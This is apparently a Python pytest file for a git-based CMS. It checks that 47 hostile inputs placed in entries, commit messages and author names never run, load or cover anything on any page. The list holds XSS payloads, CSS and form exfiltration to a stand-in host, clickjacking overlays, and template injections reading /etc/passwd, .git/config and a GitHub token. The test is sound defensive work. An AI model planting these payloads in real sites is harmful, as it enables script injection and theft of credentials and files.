"""Texts that would run, load or cover something if a page obeyed them, on every page that shows a text.

Each stands as the title, a tag, a picture, a link and the text of an entry, in the message of the commit and
in the name of who saved it. Once with the guard of the browser (the content security policy) and once
without, since either must do alone.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any
from urllib.parse import urlencode

import pytest

from gitcms import unsaved
from gitcms.accounts import users
from gitcms.accounts.permissions import Role
from gitcms.database import Database
from tests.making import JEKYLL, git, make_repository
from tests.serving import PASSWORD, serving

# By its number in the list of bad inputs.
HOSTILE = {
    "BODY-001": "<script>alert(1)</script>",
    "BODY-002": "<img src=x onerror=alert(1)>",
    "BODY-003": "[x](javascript:alert(1))",
    "BODY-004": "[x](JaVaScRiPt:alert(1))",
    "BODY-005": "[x](java\nscript:alert(1))",
    "BODY-006": "<iframe src=java&Tab;sc&Tab;ript:al&Tab;ert()></iframe>",
    "BODY-007": "<javascript:alert(1)>",
    "BODY-008": "[a]\n\n[a]: javascript:alert(1)",
    "BODY-009": "[x](vbscript:msgbox)",
    "BODY-010": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "BODY-011": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "BODY-012": "<svg><script>alert(1)</script></svg>",
    "BODY-013": "<svg/onload=alert(1)>",
    "BODY-014": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "BODY-015": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "BODY-016": '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
    "BODY-017": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "BODY-018": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "BODY-019": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "BODY-020": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "BODY-021": '<object data="javascript:alert(1)">',
    "BODY-022": '<embed src="//127.0.0.1:1/x.swf">',
    "BODY-023": '<meta http-equiv=refresh content="0;url=//elsewhere.example/">',
    "BODY-024": "<base href=//elsewhere.example/>",
    "BODY-025": "<form action=//elsewhere.example/><input name=password></form>",
    "BODY-026": "<input name=csrf_token value=x>",
    "BODY-027": "<img name=getElementById><a id=config><a id=config name=url href=//elsewhere.example>",
    "BODY-028": '<div style="position:fixed;inset:0;z-index:9999" class="cover">Login</div>',
    "BODY-029": "<style>input[value^=a]{background:url(//elsewhere.example/a)}</style>",
    "BODY-030": "<link rel=stylesheet href=//elsewhere.example/a.css>",
    "BODY-031": "![seen](//elsewhere.example/p.png?u=1)",
    "BODY-032": "<details open ontoggle=alert(1)>",
    "BODY-033": "<input autofocus onfocus=alert(1)>",
    "BODY-034": "<marquee onstart=alert(1)>",
    "BODY-035": '[x](http://a.example "\\"onmouseover=alert(1) x=\\"")',
    "BODY-036": '```"><img/src=x onerror=alert(1)>\nx\n```',
    "BODY-037": '# <a id="x" onclick=alert(1)>',
    "BODY-038": '|a|\n|:-" onclick=alert(1)|\n|b|',
    "BODY-039": '```mermaid\ngraph LR; A["<img src=x onerror=alert(1)>"]\n```',
    "BODY-040": "$$\\href{javascript:alert(1)}{x}$$",
    "BODY-041": "{{ site.github.token }}{% include_relative ../../.git/config %}",
    "BODY-042": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "BODY-043": '{{< readfile "/etc/passwd" >}}',
    "BODY-044": 'import fs from "fs"\n<Foo onClick={()=>alert(1)} />',
    "BODY-045": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "BODY-046": "<a href=//elsewhere.example target=_blank>x</a>",
    "BODY-047": "</textarea></title></option>'\"`--></script><svg onload=alert(1)>\u202e\ufeff${alert(1)}",
}


def path_of(number: str) -> str:
    return f"_projects/{number.lower()}.md"


def post(text: str, *, ending: str) -> str:
    """An entry that says `text` wherever an entry can say something."""
    said = json.dumps(text)
    return (
        f"---\nlayout: project\ntitle: {said}\nimg: {said}\ntags: [{said}]\n{said}: {said}\n"
        f"links:\n  - url: {said}\n    description: {said}\n    type: link\n---\n{text}\n\n{ending}\n"
    )


class Place:
    """A running server of a site full of such texts."""

    def __init__(self, address: str, commits: dict[str, str]) -> None:
        self.address = address
        self.commits = commits

    def pages(self) -> Iterator[str]:
        yield from ("/", "/collections/projects/", "/history", "/people", "/people/log", "/account")
        for number, text in HOSTILE.items():
            path, query = path_of(number), text.split("\n")[0][:60]
            yield f"/collections/projects/entries/{path}?view=look"
            yield f"/collections/projects/history/{path}"
            yield f"/changes/{self.commits[number]}"
            yield f"/collections/projects/unsaved/{number.lower()}"
            yield f"/collections/projects/deletions/{path}"
            yield f"/restorations/{self.commits[number]}/{path}"
            yield f"/collections/projects/?{urlencode({'q': query})}"


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    top = tmp_path_factory.mktemp("hostile")
    files = {path_of(number): post(text, ending="Before.") for number, text in HOSTILE.items()}
    folder, state = make_repository(top / "site", {**JEKYLL, **files}), top / "state"
    commits = {}
    for number, text in HOSTILE.items():
        (folder / path_of(number)).write_text(post(text, ending="After."), encoding="utf-8")
        git(folder, "add", path_of(number))
        name = text.replace("<", "‹").replace(">", "›").replace("\n", " ")
        git(folder, "-c", f"user.name={name}", "commit", "-q", "-m", f"{text}\n\n{text}")
        commits[number] = git(folder, "rev-parse", "HEAD").strip()
    state.mkdir()
    database, now = Database(f"sqlite:///{state / 'gitcms.sqlite3'}"), datetime.now(UTC)
    database.upgrade()
    admin = users.add(
        database, name="Ada", email="ada@example.org", role=Role.ADMIN, password=PASSWORD, now=now
    )
    for number, text in HOSTILE.items():
        form = [("base", git(folder, "rev-parse", f"HEAD:{path_of(number)}").strip()), ("body", text)]
        unsaved.keep(
            database,
            admin,
            number.lower(),
            collection="projects",
            path=path_of(number),
            title=text,
            form=[*form, ("f.title", text)],
            now=now,
        )
    database.close()
    with serving(folder, state) as address:
        yield Place(address, commits)


@pytest.mark.parametrize("guarded", [True, False], ids=["with the guard", "without it"])
def test_no_text_runs_loads_or_covers_anything(place: Place, chromium: Any, guarded: bool) -> None:
    context = chromium.new_context(bypass_csp=not guarded, locale="en-GB")
    page = context.new_page()
    dialogs: list[str] = []

    def answer_to(dialog: Any) -> None:
        # A page with text that is not saved asks before it is left.
        if dialog.type != "beforeunload":
            dialogs.append(page.url)
        dialog.accept()

    page.on("dialog", answer_to)
    sent: list[str] = []
    page.on("request", lambda request: sent.append(request.url))
    page.goto(f"{place.address}/sign-in")
    page.get_by_label("Email").fill("ada@example.org")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in", exact=True).click()
    for address in place.pages():
        answer = page.goto(f"{place.address}{address}")
        assert answer.status in (200, 404), (answer.status, address)
        assert page.url.startswith(place.address), address
        # Whatever a person could press or hover in what the text says.
        page.evaluate(STIR)
        wrong = page.evaluate(SEARCH)
        assert wrong == [], (address, wrong)
    assert dialogs == []
    assert [url for url in sent if not url.startswith((place.address, "blob:"))] == []
    context.close()


# What no page may hold, whoever wrote what it shows.
SEARCH = """() => [
    'iframe, object, embed, base, marquee, math, foreignObject, animate, .cover',
    '.prose :is(script, style, link, meta, form, input, svg, details, noscript)',
    '[href^="javascript:" i], [href^="vbscript:" i], [href^="data:" i]',
].flatMap((each) => [...document.querySelectorAll(each)]).concat(
    [...document.querySelectorAll('*')].filter((one) =>
        [...one.attributes].some((a) => /^on/i.test(a.name)))
).map((one) => one.outerHTML.slice(0, 200))"""
STIR = """() => document.querySelectorAll('.prose *').forEach((one) =>
    ['mouseover', 'focus', 'toggle', 'error'].forEach((kind) => one.dispatchEvent(new Event(kind))))"""
